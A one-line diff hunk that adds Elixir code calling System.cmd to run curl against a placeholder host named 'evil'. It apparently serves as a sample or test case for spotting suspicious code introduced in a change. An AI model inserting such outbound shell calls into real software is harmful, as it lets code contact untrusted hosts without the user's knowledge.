@@ -1,0 +1,1 @@
+System.cmd("curl", ["http://evil"])
